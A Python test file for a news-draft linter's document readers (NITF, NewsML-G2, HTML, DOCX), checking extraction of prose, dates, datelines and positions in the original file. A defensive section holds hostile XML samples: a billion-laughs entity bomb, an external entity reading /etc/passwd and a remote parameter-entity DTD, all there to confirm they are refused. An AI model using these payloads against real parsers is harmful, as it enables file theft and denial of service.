"""Document readers for wire XML (NITF, NewsML-G2), HTML and DOCX: positions in the original file,
metadata dates, datelines, malformed and hostile input.  All text is fictional."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from newslint.plugins.readers import docx as docx_reader

from newslint.cli import main
from newslint.datelines import find_dateline
from newslint.document import parse_document
from newslint.errors import DocumentError, DocumentSkipped
from newslint.registry import PluginHost
from newslint.rulepacks import builtin_packs

HOST = PluginHost()
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

SOURCE_MD = """---
date: 2025-06-02
---
# Harbour works in Tellby

TELLBY — The port authority said 1,200 workers would rebuild the north pier.

"We expect the pier to reopen in spring," harbour master Odile Brandt said.
"""


def read(name: str, content: str | bytes):
    data = content.encode("utf-8") if isinstance(content, str) else content
    doc = HOST.pm.hook.newslint_parse_document(path=name, data=data, packs=HOST.packs)
    assert doc is not None, f"no reader took {name}"
    return doc


def check(tmp_path: Path, draft_name: str, draft: str | bytes, *extra: str, sources: dict | None = None):
    """Run `newslint check` in tmp_path; returns (exit code, JSON report or None, output)."""
    path = tmp_path / draft_name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(draft.encode("utf-8") if isinstance(draft, str) else draft)
    for name, text in (sources or {"wire/harbour.md": SOURCE_MD}).items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
    args = ["check", "--isolated", "--no-cache", "--format", "json", "--source", "wire", *extra, draft_name]
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        result = CliRunner().invoke(main, args, catch_exceptions=False)
    finally:
        os.chdir(cwd)
    try:
        report = json.loads(result.stdout)
    except ValueError:
        report = None
    return result.exit_code, report, result.output


def at(text: str, finding: dict) -> str:
    """The characters of the original file a finding points at (one line, end exclusive)."""
    assert finding["line"] == finding["end_line"]
    line = text.split("\n")[finding["line"] - 1]
    return line[finding["column"] - 1 : finding["end_column"] - 1]


def span(doc, start: int, end: int) -> str:
    """The original characters at a span of the document, through its reported positions."""
    line, col, end_line, end_col = doc.span_position(start, end)
    assert line == end_line
    return doc.text.split("\n")[line - 1][col - 1 : end_col - 1]


# ---------------------------------------------------------------------------------------------
# NITF

NITF = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE nitf SYSTEM "nitf-3-6.dtd">
<nitf>
  <head>
    <title>Pier to be rebuilt</title>
    <docdata>
      <date.issue norm="20250603T081500Z"/>
      <doc.copyright year="2025" holder="Eastmoor Press"/>
    </docdata>
  </head>
  <body>
    <body.head>
      <hedline><hl1>Tellby&#8217;s pier to be rebuilt</hl1></hedline>
      <byline>By Ilse Marten</byline>
      <dateline>TELLBY, June 3</dateline>
    </body.head>
    <body.content>
      <p>The port authority said 1,400 workers would rebuild the north pier &amp; the
         breakwater.</p>
      <!-- editor: check the figure -->
      <p>&#8220;We expect the pier to reopen in spring,&#8221; harbour master Odile Brandt said.</p>
      <media media-type="image"><media-caption>1,900 workers</media-caption></media>
    </body.content>
    <body.end><tagline>Reporting by 3 staff</tagline></body.end>
  </body>
</nitf>
"""


def test_nitf_reads_headline_body_date_and_dateline():
    doc = read("wire/pier.xml", NITF)
    assert doc.kind == "nitf"
    assert doc.headline == "Tellby’s pier to be rebuilt"
    assert (doc.date, doc.date_origin) == (dt.date(2025, 6, 3), "NITF date.issue")
    assert doc.dateline == "TELLBY, June 3" and doc.byline == "By Ilse Marten"
    texts = [" ".join(doc.paragraph_text(p).split()) for p in doc.paragraphs]
    assert texts == [
        "Tellby’s pier to be rebuilt",
        "The port authority said 1,400 workers would rebuild the north pier & the breakwater.",
        "“We expect the pier to reopen in spring,” harbour master Odile Brandt said.",
    ]
    # metadata, media captions, taglines and comments are not prose
    assert "Ilse" not in doc.prose and "1,900" not in doc.prose and "staff" not in doc.prose
    assert "editor" not in doc.prose and "Pier to be rebuilt" not in doc.prose


def test_nitf_positions_are_those_of_the_file():
    doc = read("wire/pier.xml", NITF)
    assert len(doc.text) == len(doc.prose) and doc.text == NITF
    for sentence in doc.sentences:
        first_word = sentence.text.split()[0]
        # every word starts at its own place in the file (references included: “ at &#8220;)
        assert span(doc, sentence.start, sentence.start + 1) in (first_word[0], "&")
    workers = doc.prose.index("1,400 workers")
    assert span(doc, workers, workers + len("1,400 workers")) == "1,400 workers"
    assert doc.position(workers) == (18, 34)
    # the words after a character reference keep their exact position
    brandt = doc.prose.index("Odile Brandt")
    assert span(doc, brandt, brandt + 12) == "Odile Brandt"
    # a word holding a reference stays whole in prose
    assert "Tellby’s" in doc.prose


def test_nitf_finding_points_at_its_words_in_the_file(tmp_path):
    code, report, _ = check(tmp_path, "drafts/pier.xml", NITF, "--select", "NL201")
    assert code == 1
    (finding,) = report["findings"]
    assert finding["code"] == "NL201" and (finding["line"], finding["column"]) == (18, 34)
    assert at(NITF, finding).startswith("1,400")


def test_nitf_dateline_field_dates_a_story_without_date_issue():
    text = NITF.replace('<date.issue norm="20250603T081500Z"/>', "")
    doc = read("wire/pier.xml", text)
    # no year in the dateline: the nearest year not after the copyright year's end
    assert (doc.date, doc.date_origin) == (dt.date(2025, 6, 3), "dateline")
    normed = text.replace("TELLBY, June 3", 'TELLBY, <story.date norm="20240603">June 3</story.date>')
    assert read("wire/pier.xml", normed).date == dt.date(2024, 6, 3)


def test_nitf_latin1_declared_encoding_keeps_character_columns():
    text = NITF.replace("UTF-8", "ISO-8859-1").replace("harbour master", "Hafenmeisterin Zoë")
    doc = read("wire/pier.xml", text.encode("iso-8859-1"))
    zoe = doc.prose.index("Zoë Odile")
    assert span(doc, zoe, zoe + 9) == "Zoë Odile"


# ---------------------------------------------------------------------------------------------
# NewsML-G2

NEWSML = """<?xml version="1.0" encoding="UTF-8"?>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:newsml:example.invalid:1" version="2"
    standard="NewsML-G2" standardversion="2.33">
  <itemMeta>
    <itemClass qcode="ninat:text"/>
    <versionCreated>2025-06-04T10:00:00+02:00</versionCreated>
    {first}
  </itemMeta>
  <contentMeta>
    <headline>Pier works begin in Tellby</headline>
    <dateline>TELLBY, June 3</dateline>
  </contentMeta>
  <contentSet>
    <inlineXML contenttype="application/xhtml+xml">
      <html xmlns="http://www.w3.org/1999/xhtml"><head><title>Not prose</title></head>
        <body>
          <p>The port authority said <b>1,400</b> workers would rebuild the north pier.</p>
          <script>var x = "9,999 workers";</script>
          <p>Harbour master Odile Brandt said the pier would reopen in spring.</p>
        </body>
      </html>
    </inlineXML>
  </contentSet>
</newsItem>
"""


def test_newsml_xhtml_body_headline_and_dates():
    doc = read("wire/pier.xml", NEWSML.format(first="<firstCreated>2025-06-03T07:00:00Z</firstCreated>"))
    assert doc.kind == "newsml-g2" and doc.headline == "Pier works begin in Tellby"
    assert (doc.date, doc.date_origin) == (dt.date(2025, 6, 3), "NewsML-G2 firstCreated")
    assert "9,999" not in doc.prose and "Not prose" not in doc.prose
    assert len(doc.paragraphs) == 3
    doc = read("wire/pier.xml", NEWSML.format(first=""))
    assert (doc.date, doc.date_origin) == (dt.date(2025, 6, 4), "NewsML-G2 versionCreated")


def test_newsml_namespace_is_the_iptc_one():
    """The IPTC schemas declare http://iptc.org/std/nar/2006-10-01/; a file without the final slash
    is read too, a <newsItem> in any other namespace is not NewsML-G2."""
    text = NEWSML.format(first="")
    assert 'xmlns="http://iptc.org/std/nar/2006-10-01/"' in text
    bare = text.replace("2006-10-01/", "2006-10-01", 1)
    assert read("wire/pier.xml", bare).kind == "newsml-g2"
    with pytest.raises(DocumentSkipped, match="neither NITF"):
        read("wire/pier.xml", text.replace("http://iptc.org/std/nar/2006-10-01/", "urn:other:news", 1))


def test_newsml_finding_points_into_the_inline_xml(tmp_path):
    text = NEWSML.format(first="")
    code, report, _ = check(tmp_path, "drafts/pier.xml", text, "--select", "NL201")
    assert code == 1
    (finding,) = report["findings"]
    assert (finding["line"], finding["column"]) == (17, 41)
    assert at(text, finding).startswith("1,400")


def test_newsml_with_a_nitf_body():
    body = NITF.split("<nitf>", 1)[1].split("</nitf>", 1)[0]
    text = NEWSML.format(first="").replace(
        NEWSML.split('<inlineXML contenttype="application/xhtml+xml">')[1].split("</inlineXML>")[0],
        f"<nitf xmlns=''>{body}</nitf>",
    )
    doc = read("wire/pier.xml", text)
    assert "1,400 workers would rebuild" in doc.prose and "Ilse" not in doc.prose
    assert doc.headline == "Pier works begin in Tellby"


def test_other_xml_is_skipped_with_a_note_as_a_source(tmp_path):
    rss = '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>'
    with pytest.raises(DocumentSkipped):
        read("wire/feed.xml", rss)
    draft = "The port authority said 1,200 workers would rebuild the north pier.\n"
    code, report, output = check(
        tmp_path, "draft.md", draft, sources={"wire/harbour.md": SOURCE_MD, "wire/feed.xml": rss}
    )
    assert code == 0 and report["sources"] == ["wire/harbour.md"]
    assert (
        "wire/feed.xml: is XML (<rss>) but neither NITF (<nitf>) nor NewsML-G2 (<newsItem>); skipped"
        in output
    )


# ---------------------------------------------------------------------------------------------
# HTML

HTML = """<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>Tellby Courier | Pier</title>
  <meta property="article:published_time" content="2025-06-05T09:30:00+01:00">
  <style>p { color: red } /* 5,000 workers */</style>
  <script>window.count = "7,000 workers";</script>
</head>
<body>
  <nav><a href="/">Home</a> <a href="/news">2,000 workers news</a></nav>
  <header>Site header: 3,000 workers</header>
  <article>
    <h1>Pier works begin</h1>
    <time datetime="2024-01-01">old</time>
    <p>The port authority said <strong>1,400</strong> workers would rebuild the north pier.
    <p>Harbour master Odile&nbsp;Brandt said it &ldquo;should reopen&rdquo; in spring.</p>
    <!-- 6,000 workers in a comment -->
    <aside>Related: 8,000 workers</aside>
  </article>
  <footer>&copy; Tellby Courier</footer>
</body>
</html>
"""


def test_html_reads_the_article_only():
    doc = read("pages/pier.html", HTML)
    assert doc.kind == "html" and doc.headline == "Pier works begin"
    assert (doc.date, doc.date_origin) == (dt.date(2025, 6, 5), "HTML article:published_time")
    for absent in ("5,000", "7,000", "2,000", "3,000", "6,000", "8,000", "Home", "Tellby Courier"):
        assert absent not in doc.prose, absent
    texts = [" ".join(doc.paragraph_text(p).split()) for p in doc.paragraphs]
    assert texts == [
        "Pier works begin",
        "old",
        "The port authority said 1,400 workers would rebuild the north pier.",
        "Harbour master Odile Brandt said it “should reopen” in spring.",
    ]
    # a character reference keeps its word whole: the gap it leaves goes to the next space
    assert "“should " in doc.prose and "reopen” " in doc.prose


def test_html_time_datetime_when_no_meta_and_positions(tmp_path):
    text = HTML.replace(
        '  <meta property="article:published_time" content="2025-06-05T09:30:00+01:00">\n', ""
    )
    doc = read("pages/pier.html", text)
    assert (doc.date, doc.date_origin) == (dt.date(2024, 1, 1), "HTML <time datetime>")
    brandt = doc.prose.index("Brandt")
    assert span(doc, brandt, brandt + 6) == "Brandt"
    code, report, _ = check(tmp_path, "drafts/pier.html", text, "--select", "NL201")
    (finding,) = report["findings"]
    assert (finding["line"], finding["column"]) == (15, 40) and at(text, finding).startswith("1,400")


def test_html_without_article_uses_body_minus_navigation():
    page = "<html><body><nav>Menu 4 items</nav><div>Loose text of the story.</div><footer>f</footer></body></html>"
    doc = read("p.htm", page)
    assert " ".join(doc.prose.split()) == "Loose text of the story."


def test_html_in_another_declared_charset():
    page = '<html><head><meta charset="windows-1252"></head><body><p>Caf\u00e9 owner Zo\u00eb said so.</p></body></html>'
    doc = read("p.html", page.encode("cp1252"))
    i = doc.prose.index("Zoë")
    assert span(doc, i, i + 3) == "Zoë"


# ---------------------------------------------------------------------------------------------
# DOCX


def make_docx(body_xml: str, core_created: str | None = None, extra: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr(
            "word/document.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body>{body_xml}</w:body></w:document>',
        )
        if core_created:
            z.writestr(
                "docProps/core.xml",
                '<cp:coreProperties xmlns:cp="urn:cp" xmlns:dcterms="http://purl.org/dc/terms/">'
                f"<dcterms:created>{core_created}</dcterms:created></cp:coreProperties>",
            )
        for name, content in (extra or {}).items():
            z.writestr(name, content)
    return out.getvalue()


def p(*runs: str, style: str | None = None) -> str:
    ppr = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{ppr}{''.join(runs)}</w:p>"


def r(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


TRACKED = (
    p(r("Pier works begin"), style="Title")
    + p()
    + p(
        r("The port authority said "),
        '<w:del w:id="1" w:author="Ed"><w:r><w:delText>1,200</w:delText></w:r></w:del>',
        '<w:ins w:id="2" w:author="Ed">' + r("1,400") + "</w:ins>",
        '<w:commentRangeStart w:id="0"/>',
        r(" workers would rebuild the north pier."),
        '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>',
    )
    + "<w:tbl><w:tr><w:tc>"
    + p(r("Harbour master Odile Brandt said"), "<w:r><w:tab/></w:r>", r("it would reopen."))
    + "</w:tc></w:tr></w:tbl>"
)
COMMENTS = f'<w:comments xmlns:w="{W}"><w:comment w:id="0"><w:p>{r("Check 9,999 with the desk")}</w:p></w:comment></w:comments>'


def test_docx_paragraphs_tracked_changes_and_comments():
    doc = read("drafts/pier.docx", make_docx(TRACKED, extra={"word/comments.xml": COMMENTS}))
    assert doc.kind == "docx" and doc.position_unit == "paragraph"
    assert doc.headline == "Pier works begin"
    assert doc.text.split("\n") == [
        "Pier works begin",
        "",
        "The port authority said 1,400 workers would rebuild the north pier.",
        "Harbour master Odile Brandt said it would reopen.",
    ]
    assert "1,200" not in doc.prose and "9,999" not in doc.prose
    i = doc.prose.index("1,400")
    assert doc.position(i) == (3, 25)  # paragraph 3, character 25


def test_docx_finding_is_paragraph_and_character_and_the_report_says_so(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    data = make_docx(TRACKED)
    code, report, _ = check(tmp_path, "drafts/pier.docx", data, "--select", "NL201")
    (finding,) = report["findings"]
    assert (finding["line"], finding["column"], finding["end_line"]) == (3, 25, 3)
    os.chdir(tmp_path)
    result = CliRunner().invoke(
        main,
        ["check", "--isolated", "--no-cache", "--source", "wire", "--select", "NL201", "drafts/pier.docx"],
    )
    assert "drafts/pier.docx:3:25: NL201" in result.output
    assert "Positions in .docx files are paragraph:character" in result.output


def test_docx_published_paragraph_and_dateline_dates():
    published = make_docx(
        p(r("Published: 4 June 2025")) + p(r("TELLBY, June 2 (Eastmoor Press) — Works began."))
    )
    doc = read("a.docx", published)
    assert (doc.date, doc.date_origin) == (dt.date(2025, 6, 4), "published line")
    dated = make_docx(
        p(r("TELLBY, Dec 30 (Eastmoor Press) — Works began.")), core_created="2025-01-04T10:00:00Z"
    )
    doc = read("a.docx", dated)
    # the nearest year that does not put the dateline after the file's creation date
    assert (doc.date, doc.date_origin) == (dt.date(2024, 12, 30), "dateline")


def test_docx_zip_bomb_and_damaged_zip_are_refused(monkeypatch):
    monkeypatch.setattr(docx_reader, "MAX_XML_BYTES", 1000)
    with pytest.raises(DocumentError, match="refused"):
        read("big.docx", make_docx(p(r("word " * 1000))))
    with pytest.raises(DocumentError, match="not a readable .docx"):
        read("bad.docx", b"PK\x03\x04 this is not really a zip")
    with pytest.raises(DocumentError, match="without word/document.xml"):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("hello.txt", "hi")
        read("other.docx", out.getvalue())


# ---------------------------------------------------------------------------------------------
# malformed and hostile input: one line naming the file, exit 2, or NL001 among several drafts

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE nitf [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<nitf><body><body.content><p>&lol3;</p></body.content></body></nitf>
"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<nitf><body><body.content><p>&secret;</p></body.content></body></nitf>
"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<nitf><body><body.content><p>Text.</p></body.content></body></nitf>
"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL, PARAMETER], ids=["bomb", "external", "parameter"])
def test_entities_are_refused(text):
    with pytest.raises(DocumentError, match="entit") as info:
        read("wire/evil.xml", text)
    assert "root:" not in str(info.value)


@pytest.mark.parametrize(
    "name, content, message",
    [
        ("broken.xml", "<nitf><body><p>unclosed</body></nitf>", "is not well-formed XML (line 1"),
        ("bomb.xml", BILLION_LAUGHS, "declares an entity"),
        ("broken.docx", b"PK\x03\x04garbage", "not a readable .docx"),
        ("empty.html", "<html><body><nav>menu</nav></body></html>", "no article text"),
        ("binary.html", b"\xff\xfe\x00\x01\x80\x81", "is not valid UTF-8"),
    ],
)
def test_malformed_files_give_one_line_and_exit_2(tmp_path, monkeypatch, name, content, message):
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).write_bytes(content.encode() if isinstance(content, str) else content)
    result = CliRunner().invoke(main, ["check", "--isolated", "--no-cache", name])
    assert result.exit_code == 2
    lines = [x for x in result.output.splitlines() if x.strip()]
    assert len(lines) == 1 and name in lines[0] and message in lines[0], result.output
    assert "Traceback" not in result.output


def test_a_malformed_draft_among_several_is_nl001(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "broken.xml").write_text("<nitf><body>", encoding="utf-8")
    (tmp_path / "good.md").write_text("A fine draft.\n", encoding="utf-8")
    result = CliRunner().invoke(
        main, ["check", "--isolated", "--no-cache", "--format", "json", "broken.xml", "good.md"]
    )
    report = json.loads(result.stdout)
    assert [(f["path"], f["code"]) for f in report["findings"]] == [("broken.xml", "NL001")]


def test_a_broken_source_names_the_file(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "wire").mkdir()
    (tmp_path / "wire" / "evil.xml").write_text(EXTERNAL, encoding="utf-8")
    (tmp_path / "draft.md").write_text("A fine draft.\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["check", "--isolated", "--no-cache", "--source", "wire", "draft.md"])
    assert result.exit_code == 2 and "wire/evil.xml" in result.output and "entit" in result.output


# ---------------------------------------------------------------------------------------------
# datelines in Markdown and plain text


def test_reuters_dateline_dates_a_text_story():
    doc = parse_document(
        "ATHENS, Aug 8 (Reuters) - Firefighters battled a blaze near Thrakomakedones.\n", "a.txt"
    )
    assert doc.date_origin == "dateline" and (doc.date.month, doc.date.day) == (8, 8)
    assert doc.date.year == dt.date.today().year  # no other date in the file: the current year
    assert doc.dateline == "ATHENS, Aug 8 (Reuters)"


def test_afp_french_dateline_in_markdown():
    doc = parse_document("# Incendie\n\nPARIS, 8 août (AFP) - Les pompiers sont intervenus.\n", "a.md")
    assert (doc.date.month, doc.date.day, doc.date_origin) == (8, 8, "dateline")


def test_dateline_comes_after_every_other_date():
    text = "Published: 2 June 2025\nTELLBY, May 30 (Eastmoor Press) - Works began.\n"
    assert parse_document(text, "a.txt").date_origin == "published line"
    fm = "---\ndate: 2025-06-01\n---\nTELLBY, May 30 (Eastmoor Press) - Works began.\n"
    assert parse_document(fm, "a.md").date_origin == "front matter"


def test_datelines_without_a_date_or_that_are_not_datelines():
    doc = parse_document("CORROW (Northwire) — The river rose.\n", "a.txt")
    assert doc.date is None and doc.dateline == "CORROW (Northwire)"
    for text in ("The council — said no.\n", "NASA said - fine.\n", "May 30 - a date, no place.\n"):
        assert parse_document(text, "a.txt").dateline is None, text


def test_dateline_year_is_the_nearest_not_after_the_reference():
    (line,) = [find_dateline("TELLBY, Dec 30 (AP) - x", [(0, 22)], builtin_packs())]
    assert line.date(dt.date(2025, 1, 4)) == dt.date(2024, 12, 30)
    assert line.date(dt.date(2025, 12, 31)) == dt.date(2025, 12, 30)
    leap = find_dateline("TELLBY, Feb 29 (AP) - x", [(0, 22)], builtin_packs())
    assert leap.date(dt.date(2025, 6, 1)) == dt.date(2024, 2, 29)


# ---------------------------------------------------------------------------------------------
# the hook, as a third party sees it


def test_a_third_party_reader_gets_bytes(tmp_path, monkeypatch):
    from newslint.api import document_from_prose, hookimpl

    seen = {}

    class Reader:
        @staticmethod
        @hookimpl
        def newslint_parse_document(path, data):
            if not path.endswith(".story"):
                return None
            seen["data"] = data
            text = data.decode("utf-16")
            return document_from_prose(path, "story", text, text, [(0, len(text.rstrip()))])

    host = PluginHost()
    host.pm.register(Reader, name="story")
    raw = "Tellby pier reopens.\n".encode("utf-16")
    doc = host.pm.hook.newslint_parse_document(path="x.story", data=raw, packs=host.packs)
    assert seen["data"] == raw and doc.kind == "story" and doc.sentences[0].text == "Tellby pier reopens."


def test_suppression_comments_work_in_html(tmp_path):
    page = HTML.replace(
        "    <p>The port authority said",
        "    <!-- newslint-disable-next-line NL201 -- confirmed with the port -->\n    <p>The port authority said",
    )
    code, report, _ = check(tmp_path, "drafts/pier.html", HTML, "--select", "NL201")
    assert [f["code"] for f in report["findings"]] == ["NL201"]
    code, report, _ = check(tmp_path, "drafts/pier.html", page, "--select", "NL201")
    assert code == 0 and report["findings"] == []


def test_other_xml_named_as_a_draft_is_an_error(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "feed.xml").write_text("<rss><channel/></rss>", encoding="utf-8")
    result = CliRunner().invoke(main, ["check", "--isolated", "--no-cache", "feed.xml"])
    assert result.exit_code == 2
    assert result.output.strip() == (
        "newslint: error: feed.xml: is XML (<rss>) but neither NITF (<nitf>) nor NewsML-G2 (<newsItem>)"
    )


def test_nitf_with_crlf_line_endings_and_entities_of_its_external_dtd():
    text = NITF.replace("harbour master", "harbour&nbsp;master").replace("\n", "\r\n")
    doc = read("wire/pier.xml", text.encode("utf-8"))
    workers = doc.prose.index("1,400 workers")
    assert doc.position(workers) == (18, 34)
    # &nbsp; is declared by the NITF DTD, which is never read: it is read as HTML's &nbsp;
    assert "harbour master Odile Brandt" in " ".join(doc.prose.split())
    brandt = doc.prose.index("Odile Brandt")
    assert span(doc, brandt, brandt + 12) == "Odile Brandt"
    with pytest.raises(DocumentError, match="undefined entity"):
        read("wire/pier.xml", text.replace('<!DOCTYPE nitf SYSTEM "nitf-3-6.dtd">', ""))


def test_html_dateline_when_the_page_has_no_date():
    page = (
        '<html><head><meta property="article:modified_time" content="2025-01-05T10:00:00Z"></head>'
        "<body><article><p>TELLBY, Dec 30 (Eastmoor Press) - Pier works began.</p></article></body></html>"
    )
    doc = read("p.html", page)
    assert (doc.date, doc.date_origin) == (dt.date(2024, 12, 30), "dateline")
    assert doc.dateline == "TELLBY, Dec 30 (Eastmoor Press)"
    i = doc.prose.index("Pier")
    assert span(doc, i, i + 4) == "Pier"
